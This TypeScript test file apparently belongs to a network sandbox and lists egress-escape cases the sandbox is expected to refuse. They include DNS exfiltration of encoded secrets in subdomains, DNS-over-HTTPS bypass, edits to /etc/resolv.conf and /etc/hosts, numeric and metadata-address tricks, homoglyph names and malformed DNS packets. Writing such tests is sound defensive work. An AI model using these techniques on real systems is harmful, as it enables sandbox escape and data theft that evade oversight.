import { socketAddress } from "./addresses.ts";
import type { Attack, Step } from "./attack.ts";
import { bytesOf, textOfBytes } from "./messages.ts";
import { BELOW, CONTROL, DENIED, EVIL, PUBLIC_ADDRESS, RAW_PORT } from "./outside.ts";
import { CUT, dialogue, NO_WAY, REACHED, TLS, WEB } from "./reached.ts";
import { calls, control } from "./steps.ts";

/** Ways out by name, beside names that are admitted. */
export const NAME_ATTACKS: Attack[] = [
  {
    id: "N-01",
    title: "A name that no rule admits",
    steps: () => [REACHED, unknown(EVIL, "example.com", "glovebox.test", "test")],
  },
  {
    id: "N-02",
    title: "HTTP to a host that no rule admits",
    steps: () => [WEB, unknown(`www.${EVIL}`), refused(80, "1.1.1.1", "93.184.215.14")],
  },
  {
    id: "N-03",
    title: "HTTPS to a host that no rule admits",
    steps: () => [TLS, unknown(`www.${EVIL}`), refused(443, "1.1.1.1", "93.184.215.14")],
  },
  {
    id: "N-06",
    title: "SSH to a host that no rule admits",
    steps: () => [
      REACHED,
      unknown(`git.${EVIL}`),
      refused(22, "140.82.121.3"),
      calls(CUT, dialogue(CONTROL, 22, "SSH-2.0-x")),
    ],
  },
  {
    id: "N-08",
    title: "QUIC, to any address and in place of an admitted connection",
    steps: () => [
      TLS,
      calls(NO_WAY, `own socket 2 2 0; own sendto $1 ${bytesOf("x")} 0 ${socketAddress(PUBLIC_ADDRESS, 443)}`),
      calls(NO_WAY, `own socket 10 2 0; own sendto $1 ${bytesOf("x")} 0 ${socketAddress("2606:4700::1111", 443)}`),
    ],
  },
  {
    id: "N-12",
    title: "Secrets in names that are asked for",
    steps: () => [
      REACHED,
      unknown(...range(8).map((part) => `${"73656372657421".repeat(4)}${part}.${CONTROL}`)),
      unknown(...range(4).map((part) => `part-${part}.${EVIL}`)),
      calls("ENODATA ENOENT", ...[16, 15, 5, 255].map((type) => `net name ${type} =${CONTROL}`)),
    ],
  },
  {
    id: "N-13",
    title: "Names asked for over HTTPS or TLS",
    steps: () => [
      REACHED,
      unknown("dns.google", "cloudflare-dns.com", "dns.quad9.net"),
      refused(853, "1.1.1.1", "9.9.9.9"),
      refused(443, "8.8.8.8", "1.1.1.1"),
    ],
  },
  {
    id: "N-14",
    title: "The settings by which names are found are changed, or passed by",
    steps: () => [
      REACHED,
      calls("EROFS EACCES EPERM", "own openat -100 =/etc/resolv.conf 1", "own openat -100 =/etc/hosts 1"),
      calls("EROFS EACCES EPERM ENOENT", "own openat -100 =/etc/nsswitch.conf 1"),
      // An address of the kind that stands for names, which none was given.
      calls("ECONNREFUSED", `own socket 2 1 0; own connect $1 ${socketAddress("127.77.251.7", 443)}`),
    ],
  },
  {
    id: "N-20",
    title: "A name below an admitted one, and above it",
    steps: () => [REACHED, unknown(`www.${CONTROL}`, `a.b.${CONTROL}`, CONTROL.slice(CONTROL.indexOf(".") + 1))],
  },
  {
    id: "N-21",
    title: "The name itself, where a wildcard admits those below it",
    steps: () => [below("deep.below"), unknown(BELOW, `x${BELOW}`, `www.${BELOW}.${EVIL}`)],
  },
  {
    id: "N-23",
    title: "A name that looks like an admitted one at its end or its beginning",
    steps: () => [
      REACHED,
      unknown(`not${CONTROL}`, `${CONTROL}.${EVIL}`, CONTROL.replace(".", "x"), CONTROL.replace(".test", ".tes")),
    ],
  },
  {
    id: "N-26",
    title: "The address of an admitted host, in place of its name",
    steps: () => [REACHED, refused(RAW_PORT, PUBLIC_ADDRESS), unknown(PUBLIC_ADDRESS)],
  },
  {
    id: "N-27",
    title: "Addresses as numbers that are asked for as names",
    steps: () => [REACHED, unknown("2130706433", "0x7f.1", "0177.0.0.1", "127.1", "0", "169.254.169.254", "::1")],
  },
  {
    id: "N-28",
    title: "Names with controls, blanks, NUL and percent signs",
    steps: () => [
      REACHED,
      unlikely(
        `${CONTROL}\r\n.${EVIL}`,
        `${CONTROL} .${EVIL}`,
        `${CONTROL}%00.${EVIL}`,
        `${CONTROL}%2e${EVIL}`,
        `\u001b[2J.${EVIL}`,
      ),
      questions(Buffer.from(`\u0007control\u0008glovebox\u0004test\u0005\0evil\0`)),
      REACHED,
    ],
  },
  {
    id: "N-29",
    title: "Questions with names that are too long, empty or endless",
    steps: () => [
      REACHED,
      questions(
        Buffer.from(`\u0040${"a".repeat(64)}\0`),
        Buffer.from(`${`\u003f${"a".repeat(63)}`.repeat(5)}\0`),
        Buffer.from([0xc0, 0x0c]),
        Buffer.from([0xc0, 0xff]),
        Buffer.from([0x80, 0x01]),
        Buffer.alloc(300, 1),
      ),
      REACHED,
    ],
  },
  {
    id: "N-30",
    title: "Names in other letters that look the same",
    steps: () => [
      REACHED,
      unlikely(
        "сontrol.glovebox.test",
        "con\u200btrol.glovebox.test",
        "c\u00f8ntrol.glovebox.test",
        "xn--ontrol-3vf.glovebox.test",
      ),
    ],
  },
  {
    id: "N-31",
    title: "Parts of an address of the web in a name",
    steps: () => [
      REACHED,
      unlikely(
        `${CONTROL}@${EVIL}`,
        `${EVIL}#${CONTROL}`,
        `${EVIL}\\.${CONTROL}`,
        `${EVIL}/.${CONTROL}`,
        `${CONTROL}:443`,
      ),
    ],
  },
  {
    id: "N-33",
    title: "A host that one rule denies and another allows, in any letters",
    steps: () => [below("allowed"), unknown(DENIED, DENIED.toUpperCase(), `denied.${BELOW.toUpperCase()}`)],
  },
  {
    id: "N-42",
    title: "The host by the names engines give it",
    steps: () => [
      REACHED,
      unknown("host.docker.internal", "gateway.docker.internal", "host.containers.internal", "kubernetes.default.svc"),
    ],
  },
];

function below(label: string): Step {
  return control(calls("ok", dialogue(`${label}.${BELOW}`, RAW_PORT, "hello")));
}

/** Names that have no address inside, of either kind. */
function unknown(...names: string[]): Step {
  return calls("ENOENT", ...names.flatMap((name) => [`net name 1 =${name}`, `net name 28 =${name}`]));
}

/** The same for what a name server may take for no question at all. */
function unlikely(...names: string[]): Step {
  return calls("ENOENT EBADMSG ETIMEDOUT", ...names.map((name) => `net name 1 ${textOfBytes(name)}`));
}

/** Questions that are none: each is sent, and no answer waited for. */
function questions(...names: Buffer[]): Step {
  const head = Buffer.from([0x67, 0x62, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]);
  const to = socketAddress("127.0.0.1", 53);
  const packets = names.map((name) => bytesOf(Buffer.concat([head, name, Buffer.from([0, 1, 0, 1])])));
  return calls("ok", ...packets.map((packet) => `own socket 2 2 0; own sendto $1 ${packet} 0 ${to}`));
}

function refused(port: number, ...addresses: string[]): Step {
  return calls(
    NO_WAY,
    ...addresses.map((address) => `own socket 2 1 0; own connect $1 ${socketAddress(address, port)}`),
  );
}

function range(count: number): number[] {
  return Array.from({ length: count }, (_, index) => index);
}
